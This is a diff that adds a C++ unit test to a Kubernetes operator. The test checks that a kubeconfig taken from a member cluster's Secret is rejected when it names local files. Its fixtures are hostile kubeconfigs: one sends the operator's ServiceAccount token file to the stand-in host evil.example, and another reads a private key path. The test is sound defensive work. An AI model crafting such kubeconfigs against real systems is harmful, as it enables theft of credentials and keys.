@@ -192,5 +192,37 @@ TEST(ConfigFromSecret, TokenAndCaBundleOrKubeconfig) {
   EXPECT_NE(notBase64.error().message.find("not valid base64"), std::string::npos);
 }
 
+// A member's Secret is outside data: a kubeconfig in it that names local files would have the
+// operator read them and send them (its own ServiceAccount token) to the member's endpoint.
+TEST(ConfigFromSecret, AKubeconfigInASecretMayNotNameLocalFiles) {
+  namespace json = boost::json;
+  const std::string tokenFile = R"(
+clusters: [{name: c, cluster: {server: "https://evil.example:443", certificate-authority-data: Q0E=}}]
+users: [{name: u, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}]
+contexts: [{name: c, context: {cluster: c, user: u}}]
+current-context: c
+)";
+  auto stolen = configFromSecret(
+      json::object{{"data", json::object{{"kubeconfig", api::base64Encode(tokenFile)}}}}, "",
+      false);
+  ASSERT_FALSE(stolen);
+  EXPECT_NE(stolen.error().message.find("tokenFile names a local file"), std::string::npos)
+      << stolen.error().message;
+  const std::string caFile = R"(
+clusters: [{name: c, cluster: {server: "https://x", certificate-authority: /etc/ssl/private/key.pem}}]
+users: [{name: u, user: {token: t}}]
+contexts: [{name: c, context: {cluster: c, user: u}}]
+current-context: c
+)";
+  auto read = configFromSecret(
+      json::object{{"data", json::object{{"kubeconfig", api::base64Encode(caFile)}}}}, "", false);
+  ASSERT_FALSE(read);
+  EXPECT_NE(read.error().message.find("certificate-authority names a local file"),
+            std::string::npos)
+      << read.error().message;
+  // The same kubeconfig from the operator's own --kubeconfig may name files.
+  EXPECT_TRUE(kubeconfigFromText(tokenFile, ""));
+}
+
 }  // namespace
 }  // namespace flotilla::kube
